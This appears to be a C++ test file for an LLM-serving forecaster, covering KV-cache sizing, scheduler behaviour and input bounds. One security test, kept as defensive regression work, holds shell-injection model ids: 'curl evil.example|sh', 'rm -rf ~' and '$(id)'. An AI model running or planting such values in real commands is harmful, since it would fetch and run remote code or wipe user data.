                                      {"deploy", {{"devices", 4}, {"max_tpot_ms", 30}}}, {"serving", {{"isl", 1024}, {"osl", 256}}}});
  REQUIRE(f["best"].is_object());
  CHECK(f["best"]["launch"]["vllm"].get<std::string>().find("--gpu-memory-utilization 0.95") != std::string::npos);
  CHECK(f["best"]["launch"]["sglang"].get<std::string>().find("--mem-fraction-static 0.95") != std::string::npos);
  CHECK(f["best"]["launch"]["trtllm"].get<std::string>().find("--kv_cache_free_gpu_memory_fraction 0.95") != std::string::npos);
  // SGLang reports the fraction it derives from its reserve: (80 GiB - 13,440 MiB) / 80 GiB on an H100.
  const auto g = api_value("serving", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"runtime", "sglang"},
                                       {"serving", {{"concurrency", 4}}}});
  CHECK(g["scheduler"]["memory_fraction"].get<double>() == Approx(1 - 13440.0 * 1048576 / (80 * 1073741824.0)));
  // Errors name the field.
  const auto err = [](const nlohmann::json& req) {
    return nlohmann::json::parse(infercast::call("serving", req.dump()))["error"];
  };
  const auto both = err({{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"serving", {{"concurrency", 4}, {"request_rate", 2}}}});
  CHECK(both["code"] == "request.conflict");
  CHECK(both["path"] == "/serving/request_rate");
  const auto none = err({{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}});
  CHECK(none["path"] == "/serving/concurrency");
  const auto wl = err({{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"workload", {{"batch", 2}}},
                       {"serving", {{"concurrency", 4}}}});
  CHECK(wl["path"] == "/workload");
  const auto big = err({{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"},
                        {"serving", {{"concurrency", 100000}, {"requests", 1000000}, {"osl", 1000000}}}});
  CHECK(big["code"] == "serving.too_large");
  // A plan over several devices is costed now.
  const auto plan = api_value("analyze", {{"model", "llama-3.1-70b"}, {"system", "dgx-h100"}, {"parallel", {{"tp", 4}}}});
  REQUIRE(plan.contains("cost"));
  CHECK(plan["cost"]["usd_per_million_tokens"].get<double>() > 0);
}

TEST_CASE("a step model built for one-token steps reads its one-point grids in bounds", "[serving]") {
  // Regression (ASan, heap-buffer-overflow in lerp): a one-point grid was read at its second point. Tensor parallel,
  // so the row grid's communication table is read too.
  const ModelSpec m = test::preset_model("llama-3.1-70b");
  const Workload w = runtime_workload("vllm");
  ParallelPlan plan;
  plan.tp = 4;
  const StepModel sm(m, w, *find_system_preset("dgx-h100"), plan, 1, 1);
  const Execution& x = sm.execution();
  for (const auto& st : std::vector<std::vector<Request>>{{Request{0, 1, 1}}, {Request{100, 1, 1}}}) {
    StepLoad l;
    for (const auto& r : st) sm.add(l, static_cast<double>(r.cached), static_cast<double>(r.input), static_cast<double>(r.count));
    const double fast = sm.seconds(l, x), exact = sm.exact_seconds(st, x);
    CHECK(std::isfinite(fast));
    CHECK(fast == Approx(exact).epsilon(0.01));
  }
}

TEST_CASE("multi-step scheduling streams N tokens per chunk", "[serving]") {
  // vLLM 0.6's --num-scheduler-steps N: one client, 32-token prompts, 201 tokens out. The decode steps are the same
  // steps, so TPOT stays; the client gets a chunk of N tokens every N steps, so the tools' ITL (one gap per chunk) is
  // N steps; Little's law still holds.
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const Workload w = runtime_workload("vllm");
  const System sys = one_device("nvidia-h100-sxm");
  ServingLoad load = fixed(32, 201);
  load.concurrency = 1;
  load.requests = 4;
  ServingSetup s = serving_setup(m, w, sys, ParallelPlan{});
  s.model = &m;
  const StepModel steps(m, w, sys, ParallelPlan{}, max_step_tokens(s, load), max_decode_batch(s, load));
  const Execution x = resolve_execution(sys.device, w.runtime);
  const ServingResult one = simulate_serving(s, steps, load, x);
  s.limits.scheduler_steps = 10;
  const ServingResult ten = simulate_serving(s, steps, load, x);
  CHECK(ten.itl_s.p50 == Approx(10 * one.itl_s.p50).epsilon(0.01));
  CHECK(ten.tpot_s.mean == Approx(one.tpot_s.mean).epsilon(0.06));
  // A request's 200 decode steps are 20 windows: 20 gaps instead of 200 (its last chunk arrives when its window ends).
  CHECK(ten.e2e_s.mean == Approx(one.e2e_s.mean).epsilon(0.06));
  CHECK(ten.mean_in_system == Approx(ten.littles_product).epsilon(0.02));
  // The steady state: the same ITL of N steps.
  const ServingResult st = steady_state(s, steps, load, x);
  CHECK(st.itl_s.p50 == Approx(10 * st.tpot_s.p50).epsilon(1e-9));
  // Through the API (/serving/scheduler_steps, the CLI's --scheduler-steps): the run's scheduler says N, and the same
  // ITL of N steps; 0 keeps the runtime's (vLLM's today: 1).
  const auto api = [](int n) {
    return api_value("serving", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"runtime", "vllm"},
                                 {"serving", {{"concurrency", 1}, {"requests", 4}, {"isl", 32}, {"osl", 201}, {"scheduler_steps", n}}}});
  };
  const auto a1 = api(0), a10 = api(10);
  CHECK(a1["scheduler"]["scheduler_steps"] == 1);
  CHECK(a10["scheduler"]["scheduler_steps"] == 10);
  CHECK(a10["itl_s"]["p50"].get<double>() == Approx(10 * a1["itl_s"]["p50"].get<double>()).epsilon(0.01));
  const auto bad = nlohmann::json::parse(infercast::call("serving", nlohmann::json{{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"},
                                                                                    {"serving", {{"concurrency", 1}, {"scheduler_steps", 65}}}}.dump()))["error"];
  CHECK(bad["path"] == "/serving/scheduler_steps");
  CHECK(bad["message"] == "/serving/scheduler_steps holds 65; expected an integer from 0 to 64");
}

// Memory review (stop 37): SGLang's model-specific overrides set disable_hybrid_swa_memory for Gemma 2, 3 and 3n
// ("not yet supported"), so every layer caches the whole context. The tool counted the 1,024-token windows and gave
// Gemma-3-27B on an H100 nine 17,000-token requests where one fits. By hand: 62 layers x 16 KV heads x (128 + 128) x
// 2 bytes = 507,904 bytes a token in every layer; vLLM's hybrid allocator keeps the windows.
TEST_CASE("SGLang caches Gemma's sliding-window layers in full and vLLM keeps the windows", "[serving][memory][regression]") {
  const ModelSpec m = test::preset_model("gemma-3-27b-it");
  const ServingSetup g = serving_setup(m, runtime_workload("sglang"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK(g.window_kv_full);
  CHECK(request_kv_bytes(g, 17000) == Approx(507904.0 * 17000));
  REQUIRE_FALSE(g.warnings.empty());
  CHECK(g.warnings.front().code == "serving.window_kv_full");
  const ServingSetup v = serving_setup(m, runtime_workload("vllm"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK_FALSE(v.window_kv_full);
  CHECK(request_kv_bytes(v, 17000) < 0.3 * request_kv_bytes(g, 17000));  // 10 global layers of 62 hold it all
  // A model without windows is the same under both; analyze under SGLang counts the cache the same way.
  const ServingSetup l = serving_setup(test::preset_model("llama-3.1-8b"), runtime_workload("sglang"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK_FALSE(l.window_kv_full);
  const nlohmann::json a = api_value("analyze", {{"model", "gemma-3-27b-it"}, {"hardware", "nvidia-h100-sxm"}, {"runtime", "sglang"},
                                             {"workload", {{"batch", 1}, {"prompt", 16000}, {"gen", 1001}}}});
  CHECK(a["memory"]["kv_cache_bytes"].get<double>() == Approx(507904.0 * 17000));
}

// Audit G, finding 3: the pool's tokens were counted at every layer's bytes, windows or not: Gemma-3-27B under vLLM
// showed a pool of kv_bytes / 507,904 tokens, where past the 1,024-token windows a token adds only the 10 global
// layers' 10 x 16 x 256 x 2 = 81,920 bytes. The pool's tokens, SGLang's reserve for the tokens still to come and the
// bottleneck stage are now in the bytes past the windows; where the runtime caches the windows in full they are
// every layer's.
TEST_CASE("the KV pool counts its tokens past the sliding windows", "[serving][memory][regression]") {
  const ModelSpec m = test::preset_model("gemma-3-27b-it");
  const ServingSetup v = serving_setup(m, runtime_workload("vllm"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK(v.memory.kv_bytes_per_token == 507904);
  CHECK(v.memory.kv_bytes_per_token_past_windows == 10 * 16 * 256 * 2);
  CHECK(v.memory.kv_tokens == Approx(v.memory.kv_bytes / 81920.0));
  const ServingSetup g = serving_setup(m, runtime_workload("sglang"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK(g.memory.kv_bytes_per_token_past_windows == 507904);
  CHECK(g.memory.kv_tokens == Approx(g.memory.kv_bytes / 507904.0));
  // The analysis reports both; a model without windows has one figure.
  const auto memory = [](const char* model, const char* runtime) {
    return api_value("analyze", {{"model", model}, {"hardware", "nvidia-h100-sxm"}, {"runtime", runtime}})["memory"];
  };
  CHECK(memory("gemma-3-27b-it", "vllm")["kv_bytes_per_token"] == 507904);
  CHECK(memory("gemma-3-27b-it", "vllm")["kv_bytes_per_token_past_windows"] == 81920);
  CHECK(memory("gemma-3-27b-it", "sglang")["kv_bytes_per_token_past_windows"] == 507904);
  const auto llama = memory("llama-3.1-8b", "vllm");
  CHECK(llama["kv_bytes_per_token_past_windows"] == llama["kv_bytes_per_token"]);
  // SGLang's hybrid SWA pool (gpt-oss: 12 of 24 layers windowed) holds 0.8 windowed tokens per full token.
  const ServingSetup o = serving_setup(test::preset_model("gpt-oss-20b"), runtime_workload("sglang"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK_FALSE(o.window_kv_full);
  const double full = o.memory.kv_bytes_per_token_past_windows, windowed = o.memory.kv_bytes_per_token - full;
  CHECK(windowed == full);
  CHECK(o.memory.kv_tokens == Approx(o.memory.kv_bytes / (full + 0.8 * windowed)));
  // llama.cpp's are its n_ctx cells: the global layers' tokens, its window caches of the 52 windowed layers beside them.
  const ServingSetup c = serving_setup(m, runtime_workload("llama.cpp-cuda"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK(c.memory.kv_tokens < c.memory.kv_bytes / 81920.0);
  CHECK(c.memory.kv_tokens > c.memory.kv_bytes / 507904.0);
  CHECK(c.memory.kv_tokens == std::floor(c.memory.kv_tokens));
  // Sliding windows only (Mistral-7B-v0.1): nothing grows past them, and the pool still counts its tokens.
  const ServingSetup w = serving_setup(test::preset_model("mistral-7b-v0.1"), runtime_workload("vllm"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK(w.memory.kv_bytes_per_token_past_windows == 0);
  CHECK(w.memory.kv_tokens == Approx(w.memory.kv_bytes / w.memory.kv_bytes_per_token));
}

// vLLM's memory profile ends with a sampler run over a full batch (gpu_model_runner.py profile_run ->
// _dummy_sampler_run over min(max_num_batched_tokens, max_num_seqs) requests): bf16 logits, an fp32 copy and fp32
// probabilities, 10 bytes per vocabulary entry. On an H100 (1,024 sequences) that is 1,024 x 128,256 x 10 bytes =
// 1.22 GiB for Llama-3.1-8B, above the forward's largest step; the KV pool is what is left of it.
TEST_CASE("vLLM's activation peak holds a full batch's sampler logits", "[serving][memory]") {
  const ModelSpec m = test::preset_model("llama-3.1-8b");
  const ServingSetup s = serving_setup(m, runtime_workload("vllm"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  REQUIRE(s.limits.max_num_seqs == 1024);
  CHECK(s.memory.activation_bytes == Approx(1024.0 * 128256 * 10));
  // A small batch cap: the forward's peak binds again (64 sequences: 82 MB of logits, the step's 0.70 GB).
  const ServingSetup few = serving_setup(m, runtime_workload("vllm"), one_device("nvidia-h100-sxm"), ParallelPlan{}, 64);
  CHECK(few.memory.activation_bytes < 0.6 * s.memory.activation_bytes);
  CHECK(few.memory.activation_bytes > 64.0 * 128256 * 10);
  // TensorRT-LLM states no such term: the same 8,192-token step's forward alone.
  const ServingSetup t = serving_setup(m, runtime_workload("tensorrt-llm"), one_device("nvidia-h100-sxm"), ParallelPlan{});
  CHECK(t.memory.activation_bytes == Approx(few.memory.activation_bytes));
}

// Memory review (stop 37): SGLang sizes cuda_graph_max_bs by the device's memory and tensor parallelism
// (server_args.py _handle_gpu_memory_settings), and its reserve counts 2 MB a graph batch. The tool used 256
// everywhere: on an RTX 4090 a 4,224 MB reserve where SGLang keeps 512 + 1.5 x 2048 + 2 x 24 + 128 = 3,760 MB.
TEST_CASE("SGLang's graph batch, and so its reserve, follows the device's memory and TP", "[serving][memory][regression]") {
  const SchedulerSpec& sg = find_runtime_preset("sglang")->scheduler;
  const auto at = [&](const char* hw, int tp) { return resolve_scheduler(sg, *find_hardware_preset(hw), tp, tp, 256); };
  CHECK(at("nvidia-rtx-4090", 1).graph_batch == 24);
  CHECK(at("nvidia-rtx-4090", 1).reserve_bytes == Approx(3760.0 * 1048576));
  CHECK(at("nvidia-rtx-4090", 4).graph_batch == 80);
  CHECK(at("nvidia-rtx-4080", 1).graph_batch == 8);
  CHECK(at("nvidia-a100-pcie-40gb", 1).graph_batch == 32);
  CHECK(at("nvidia-h100-sxm", 1).graph_batch == 256);
  CHECK(at("nvidia-h100-sxm", 8).graph_batch == 512);
  // H100 at TP8: 512 + 1.5 x 8192 + 2 x 512 + 8 x 128 = 14,848 MB (above the 10 GiB floor).
  CHECK(at("nvidia-h100-sxm", 8).reserve_bytes == Approx(14848.0 * 1048576));
  CHECK(at("amd-mi300x", 1).graph_batch == 512);
  CHECK(at("amd-mi300x", 1).token_budget == 16384);
}

// vLLM 0.10.1.1's own logs (github.com/dennislee22/vLLM-benchmarking, log/vllm-7B-{1,2}gpuA10080GB-{0.25,0.5}GRAM*.log:
// "GPU KV cache size: N tokens"), Qwen2-7B-Instruct in bf16 on A100 80GB at gpu_memory_utilization 0.25 and 0.5, TP 1
// and 2: 93,872, 464,848, 450,192 and 1,192,160 tokens. The A100's reported total (79.26 GiB) was solved from these
// pairs, so this checks the rest: weights, the profile's activations and its sampler over the whole vocabulary on every
// rank (divided by TP, the TP 2 pools were 5.9% and 2.8% above the logs). The engine keeps 0.2-0.5 GiB of non-torch
// memory (NCCL, cuBLAS workspaces) that is not modelled, so ours may be up to 5.5% above (the TP1 pool at 0.25 is 5.1%
// above), never below by more than 3%.
TEST_CASE("vLLM's KV pool matches its logs on A100 80GB within 5.5 percent", "[serving][golden]") {
  struct Case { double fraction; int tp; double logged_tokens; };
  for (const Case c : {Case{0.25, 1, 93872}, Case{0.5, 1, 464848}, Case{0.25, 2, 450192}, Case{0.5, 2, 1192160}}) {
    const auto v = api_value("serving", {{"model", "qwen2-7b"}, {"hardware", "nvidia-a100-sxm-80gb"}, {"runtime", "vllm"},
                                         {"memory_fraction", c.fraction}, {"parallel", {{"tp", c.tp}}},
                                         {"serving", {{"concurrency", 1}, {"isl", 512}, {"osl", 16}}}});
    const double ratio = v["memory"]["kv_tokens"].get<double>() / c.logged_tokens;
    INFO("fraction " << c.fraction << " tp " << c.tp << " ratio " << ratio);
    // The sampler's 10 bytes per logit over 256 sequences (an A100's max_num_seqs) and all 152,064 entries, per rank.
    CHECK(v["memory"]["activation_bytes"].get<double>() >= 10.0 * 256 * 152064);
    CHECK(ratio > 0.97);
    CHECK(ratio < 1.055);
  }
}

// Adversarial audit C (2026-12): bounds and refusals of the serving model.

TEST_CASE("SGLang's admission weighs its reserve from a running sum: a hundred thousand prompts at once in linear time",
          "[serving][regression]") {
  // Prefill-first with recompute (SGLang) keeps room for what the running requests have left to generate; summing it
  // again for every prompt admitted made one step of 1e5 admissions 5e9 additions (8.9 s of CPU).
  const nlohmann::json req = {{"model", "llama-3.2-1b"}, {"hardware", "nvidia-h200-sxm"}, {"runtime", "sglang"}, {"memory_fraction", 0.95},
                              {"serving", {{"concurrency", 100000}, {"requests", 100000}, {"isl", 1}, {"osl", 2},
                                           {"max_num_seqs", 1000000}, {"max_num_batched_tokens", 1000000}}}};
  const std::clock_t start = std::clock();
  const auto v = api_value("serving", req);
  const double cpu_s = static_cast<double>(std::clock() - start) / CLOCKS_PER_SEC;
  CHECK(cpu_s < 2.0);
  // Every client's prompt in one prefill step, then one decode step: as before the running sum.
  CHECK(v["engine"]["steps"] == 2);
  CHECK(v["engine"]["requests"] == 100000);
  // 30,000 clients gave these figures before the change, to the bit.
  auto small = req;
  small["serving"]["concurrency"] = 30000;
  small["serving"]["requests"] = 30000;
  const auto s = api_value("serving", small);
  CHECK(s["ttft_s"]["p50"].get<double>() == 0.24619812400398244);
  CHECK(s["engine"]["mean_step_s"].get<double>() == 0.12309906200199122);
  CHECK(s["requests_per_s"].get<double>() == 121853.08121809542);
}

TEST_CASE("requests the KV pool cannot hold even alone are dropped under one warning that counts them", "[serving][regression]") {
  const ModelSpec m = test::preset_model("llama-3.2-1b");
  const System sys = one_device("nvidia-h100-sxm");
  const Workload w = runtime_workload("vllm");
  ServingLoad load = fixed(4096, 16);
  load.concurrency = 64;
  load.requests = 500;
  ServingSetup s = serving_setup(m, w, sys, ParallelPlan{});
  s.memory.kv_bytes = request_kv_bytes(s, 1024);  // a pool of 1,024 tokens: no request of 4,112 fits
  const StepModel sm(m, w, sys, ParallelPlan{}, max_step_tokens(s, load), max_decode_batch(s, load));
  const ServingResult r = simulate_serving(s, sm, load, sm.execution());
  std::vector<Warning> dropped;
  for (const auto& x : r.warnings)
    if (x.code == "serving.request_too_long") dropped.push_back(x);
  REQUIRE(dropped.size() == 1);  // was one per request: 500 here, a million (186 MB of output) in the audit's case
  CHECK(dropped[0].path == "/serving/isl");
  CHECK(dropped[0].message == "500 of 500 requests (the longest 4112 tokens) did not fit the KV cache even alone; they were dropped");
  CHECK(r.requests == 0);
  // The forecast refuses such a load before it simulates: the mean request does not fit the pool.
  CHECK_THROWS_AS(steady_state(s, sm, load, sm.execution()), InputError);
}

TEST_CASE("a request larger than the whole KV pool is refused, not served at many times the pool", "[serving][regression]") {
  const auto err = [](const nlohmann::json& req) { return nlohmann::json::parse(infercast::call("serving", req.dump()))["error"]; };
  // The steady state forced one request in flight and reported the pool 2,214% full.
  for (bool simulate : {false, true}) {
    const auto e = err({{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"},
                        {"serving", {{"concurrency", 4}, {"isl", 10000000}, {"osl", 10}, {"simulate", simulate}}}});
    CHECK(e["code"] == "serving.does_not_fit");
    CHECK(e["path"] == "/serving/isl");
    CHECK(e["message"] ==
          "/serving: a request of 10000000 prompt and 10 output tokens holds 1220.7 GiB of KV cache per device at 10000005 "
          "tokens (its mean context), more than the whole KV pool it is served from (55.1 GiB per device); expected shorter "
          "requests (/serving/isl, /serving/osl), a plan over more devices, or a larger memory_fraction");
  }
  // TensorRT-LLM reserves every request to its last token.
  const auto t = err({{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"runtime", "tensorrt-llm"},
                      {"serving", {{"concurrency", 4}, {"isl", 1000000}, {"osl", 10}, {"simulate", false}}}});
  CHECK(t["code"] == "serving.does_not_fit");
  CHECK(t["message"].get<std::string>().find("at 1000010 tokens (reserved to its last token)") != std::string::npos);
  // A request that fits is served as before.
  const auto v = api_value("serving", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"},
                                       {"serving", {{"concurrency", 4}, {"isl", 100000}, {"osl", 10}, {"simulate", false}}}});
  CHECK(v["memory"]["kv_peak_fraction"].get<double>() <= 1.0);
}

TEST_CASE("an open-loop rate has a floor: arrivals stay where a step's seconds still add to them", "[serving][regression]") {
  const auto e = nlohmann::json::parse(infercast::call(
      "serving", nlohmann::json({{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"serving", {{"request_rate", 1e-300}}}}).dump()))["error"];
  CHECK(e["code"] == "request.out_of_range");
  CHECK(e["path"] == "/serving/request_rate");
  CHECK(e["message"] == "/serving/request_rate holds 1e-300; expected 0 (none) or a number from 0.001 to 1000000");
  const auto v = api_value("serving", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"},
                                       {"serving", {{"request_rate", 0.001}, {"isl", 8}, {"osl", 40}, {"requests", 20}}}});
  CHECK(v["e2e_s"]["mean"].get<double>() > 0.1);  // 1e-300 gave 0: every step absorbed by arrival times near 1e302
}

TEST_CASE("load.requests counts what was served over the busy replicas and pipeline streams", "[serving][regression]") {
  // 64 clients over 65,536 replicas keep 64 busy, one request each (was 65,536: one per replica).
  const auto dp = api_value("serving", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"parallel", {{"dp", 65536}}},
                                        {"serving", {{"concurrency", 64}, {"requests", 64}, {"isl", 8}, {"osl", 40}}}});
  CHECK(dp["engine"]["requests"] == 1);
  CHECK(dp["load"]["requests"] == 64);
  // 32 pipeline streams of one replica, two requests each (was 2: the streams were left out).
  const auto pp = api_value("serving", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"}, {"parallel", {{"pp", 32}}},
                                        {"serving", {{"concurrency", 64}, {"requests", 64}, {"isl", 8}, {"osl", 40}}}});
  CHECK(pp["engine"]["requests"] == 2);
  CHECK(pp["load"]["requests"] == 64);
  // The steady state simulates none: it echoes the request's.
  const auto st = api_value("serving", {{"model", "llama-3.1-8b"}, {"hardware", "nvidia-h100-sxm"},
                                        {"serving", {{"concurrency", 8}, {"requests", 100}, {"simulate", false}}}});
  CHECK(st["load"]["requests"] == 100);
}

TEST_CASE("launch commands hold the model id as one shell word", "[serving][deploy][security]") {
  DeployConfig c;
  c.plan.tp = 2;
  c.batch = 64;
  c.token_budget = 2048;
  Workload w;
  const auto vllm = [&](const std::string& repo) { return launch_commands(c, repo, w).vllm; };
  const std::string tail = " --tensor-parallel-size 2 --max-num-seqs 64 --max-num-batched-tokens 2048 --gpu-memory-utilization 0.9";
  // A Hugging Face id is written as it is.
  CHECK(vllm("meta-llama/Llama-3.1-8B") == "vllm serve meta-llama/Llama-3.1-8B" + tail);
  CHECK(vllm("org/model-v1.5_x+y@main:rev") == "vllm serve org/model-v1.5_x+y@main:rev" + tail);
  // What a model document's source or id holds runs nothing: in single quotes (the audit's two reproducers).
  CHECK(vllm("meta-llama/x`touch${IFS}/tmp/pwned`&&curl${IFS}evil.example|sh") ==
        "vllm serve 'meta-llama/x`touch${IFS}/tmp/pwned`&&curl${IFS}evil.example|sh'" + tail);
  CHECK(vllm("x;rm${IFS}-rf${IFS}~;#") == "vllm serve 'x;rm${IFS}-rf${IFS}~;#'" + tail);
  CHECK(vllm("a'b $(id)") == "vllm serve 'a'\\''b $(id)'" + tail);
  // An option, a line break or nothing: the placeholder.
  CHECK(vllm("--trust-remote-code") == "vllm serve MODEL" + tail);
  CHECK(vllm("x\nrm -rf ~") == "vllm serve MODEL" + tail);
  CHECK(vllm("") == "vllm serve MODEL" + tail);
  const LaunchCommands l = launch_commands(c, "x;id", w);
  CHECK(l.sglang.rfind("python -m sglang.launch_server --model-path 'x;id' --tp 2", 0) == 0);
  CHECK(l.trtllm.rfind("trtllm-serve 'x;id' --tp_size 2", 0) == 0);
  c.disaggregated = true;
  c.prefill = c.plan;
  const LaunchCommands d = launch_commands(c, "x;id", w);
  CHECK(d.vllm.find("vllm serve x;id") == std::string::npos);
  CHECK(d.vllm.find("vllm serve 'x;id'") != std::string::npos);
  CHECK(d.sglang.find("--model-path 'x;id'") != std::string::npos);
  // Through the API: the audit's preset document, whose source carries the command.
  const nlohmann::json doc = {{"schema_version", 1}, {"id", "llama-3.1-8b"}, {"name", "Llama-3.1-8B"},
                              {"source", "https://huggingface.co/meta-llama/x`touch${IFS}/tmp/pwned`&&curl${IFS}evil.example|sh"},
                              {"stated_params", {{"total", "8B"}}}, {"config", find_model_preset("llama-3.1-8b")->config}};
  const auto v = api_value("deploy", {{"model", doc}, {"hardware", "nvidia-h100-sxm"}, {"deploy", {{"devices", 8}, {"disaggregated", "off"}}},
                                      {"serving", {{"isl", 1024}, {"osl", 256}}}});
  REQUIRE(v["best"].is_object());
  CHECK(v["best"]["launch"]["vllm"].get<std::string>().rfind(
            "vllm serve 'meta-llama/x`touch${IFS}/tmp/pwned`&&curl${IFS}evil.example|sh' --tensor-parallel-size ", 0) == 0);
}
